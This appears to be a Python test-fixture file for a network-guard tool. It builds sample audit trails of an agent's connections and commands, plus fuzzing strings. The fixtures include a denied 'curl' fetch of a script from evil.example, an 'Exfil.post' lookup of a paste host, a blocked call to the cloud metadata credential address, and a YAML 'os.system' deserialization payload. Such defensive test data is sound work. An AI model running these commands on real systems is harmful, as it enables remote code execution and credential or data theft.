"""Runs as lists of trail records, and texts that try to get out of the line they are shown in."""

from __future__ import annotations

import random
from typing import Any

Record = dict[str, Any]


def code(line: int, func: str, file: str = "/job/agent.py") -> Record:
    return {"file": file, "line": line, "func": func, "package": "__main__", "via": "requests"}


def line(kind: str, verdict: str, rule: str = "audit", **keys: object) -> Record:
    return {"v": 1, "seq": 1, "prev": "9f", "run": "01JD", "kind": kind, "verdict": verdict, "rule": rule, **keys}


def dns(name: str, verdict: str = "log", **keys: object) -> Record:
    return line("dns", verdict, dns={"name": name, "type": "A"}, **keys)


def connect(host: str, ip: str, port: int, verdict: str = "log", proto: str = "tcp", **keys: object) -> Record:
    dst = {"host": host, "ip": ip, "port": port, "proto": proto, "asked": f"{host or ip}:{port}"}
    return line("connect", verdict, dst={key: value for key, value in dst.items() if value != ""}, **keys)


def native(severity: str, verdict: str = "log", **keys: object) -> Record:
    """A connection that no witness announced."""
    findings = [{"id": "native", "severity": severity, "why": "nobody announced it"}]
    return line(
        "connect", verdict, event="connect", layers=["kernel"], findings=findings,
        dst={"ip": "192.0.2.7", "port": 443, "proto": "tcp"}, **keys,
    )  # fmt: skip


def unix(path: str, verdict: str = "log", **keys: object) -> Record:
    return line("connect", verdict, dst={"path": path, "proto": "unix"}, **keys)


def listen(ip: str, port: int, verdict: str = "log", **keys: object) -> Record:
    return line("listen", verdict, dst={"ip": ip, "port": port, "proto": "tcp"}, **keys)


def started(*argv: str, verdict: str = "log", program: str = "", shim: str = "", **keys: object) -> Record:
    covered = {"shim": shim} if shim else {}
    described = {"program": program or argv[0], "argv": list(argv), "cwd": "/job", **covered}
    return line("exec", verdict, exec=described, **keys)


COVERAGE = {"v": 1, "seq": 0, "kind": "coverage", "layers": ["hook"]}

#: A run under the pack that logs everything: an index, an API by three addresses, a leak that was stopped.
AUDIT_RUN: list[Record] = [
    COVERAGE,
    dns("pkg.test", code=code(8, "index")),
    connect("pkg.test", "151.101.0.223", 443, code=code(8, "index")),
    dns("api.openai.com", code=code(12, "ask")),
    connect("api.openai.com", "162.159.140.245", 443, code=code(12, "ask")),
    connect("api.openai.com", "172.66.0.243", 443, code=code(12, "ask")),
    connect("api.openai.com", "162.159.140.245", 443, code=code(19, "ask_again")),
    {"v": 1, "kind": "result", "of": 4, "status": 200},
    connect(
        "", "169.254.169.254", 80, "deny", rule="metadata",
        because="instance credentials live there", code=code(41, "fetch_token"),
    ),
    dns("paste.evil.example", "deny", rule="default", why="no rule matches", code=code(55, "Exfil.post")),
    started("git", "clone", "https://git.example/a", code=code(60, "sources")),
    started("git", "clone", "https://git.example/b", code=code(60, "sources")),
    started("curl", "-s", "http://evil.example/x.sh", verdict="deny", rule="no-shell", code=code(63, "<module>")),
    listen("127.0.0.1", 8000, code=code(70, "serve")),
    {"v": 1, "kind": "count", "rule": "own-sockets", "verdict": "allow", "n": 140},
    {"v": 1, "kind": "count", "counts": {"own-sockets": 1100, "pypi": 3}},
    {"v": 1, "kind": "close", "counts": {"log": 9, "deny": 3}},
]  # fmt: skip

#: The same kind of script in a dry run, with a trail that somebody touched.
DRY_RUN: list[Record] = [
    COVERAGE,
    dns("db.corp.example", code=code(3, "<module>", "/job/etl.py")),
    connect("db.corp.example", "10.0.0.5", 5432, code=code(3, "<module>", "/job/etl.py")),
    connect("", "2001:db8::1", 53, proto="udp", would="deny", rule="default", code=code(9, "ask", "/job/etl.py")),
    {"v": 1, "kind": "tamper", "why": "trail.jsonl is 12 bytes longer than netguard made it"},
    {"v": 1, "kind": "alert", "findings": [{"id": "native", "why": "4 connections that no line of code announced"}]},
]

#: Pieces of texts that move, recolour, reorder, hide or end something, or that are data to another reader.
HOSTILE = [
    "\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\r", "\n", "\t", "\0", "\x7f", "\x85", "\u2028", "\u2029", "\u202e",
    "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u3164", "\u0301", "\u0301" * 40,
    "\ud800", "\udfff", "\U000e0041", "\ufe0f", "\u3000", "\U0001f600", "漢字", "é", "ß", "\ue000", "\uffff",
    '"', "'", "\\", ": ", "- ", "#", "{", "}", "[", "]", "*", "?", "&a", "!!python/object/apply:os.system", "%",
    "@public", "\nrules:\n  - allow: any\n", "evil.example", "x" * 300, " ", "…",
]  # fmt: skip


def hostile_text(rng: random.Random) -> str:
    return "".join(rng.choice(HOSTILE) for _ in range(rng.randrange(1, 6)))


WRONG = [None, 7, 10**400, -1.5, [], ["x"], {"a": 1}, True]
KINDS = ["dns", "connect", "listen", "http", "exec", "native", "file", "audit", "tamper", "alert", "count", "result"]


def hostile_record(rng: random.Random) -> Record:
    """A record of the right shape in which every text is hostile, and now and then a value is of the wrong type."""

    def text() -> Any:
        return hostile_text(rng) if rng.random() < 0.97 else rng.choice(WRONG)

    verdict = rng.choice(["allow", "log", "deny"])
    rule = text()
    where = {"file": text(), "line": rng.choice([1, 10**30, text()]), "func": text()}
    kind = rng.choice(
        ["dns", "connect", "listen", "http", "exec", "native", "file", "audit", "tamper", "alert", "count"]
    )
    parts: Record = {
        "dns": {"name": text(), "answers": [text()]},
        "dst": {
            "host": text(),
            "ip": text(),
            "port": rng.choice([80, -1, 10**30, text()]),
            "proto": text(),
            "path": text(),
        },
        "exec": {"program": text(), "argv": [text(), text(), text()]},
        "file": {"path": text()},
        "counts": {hostile_text(rng): rng.choice([1, 10**400, "x", -5, float("inf")])},
        "event": text(),
    }
    parts["dst"]["port"] = rng.choice([80, -1, 10**30, text()])
    if rng.random() < 0.3:
        parts["dst"]["proto"] = rng.choice(["unix", "tcp", "udp"])
    if rng.random() < 0.2:
        parts["would"] = rng.choice(["deny", "log", text()])
    return {"kind": kind, "verdict": verdict, "rule": rule, "why": text(), "code": where, **parts}
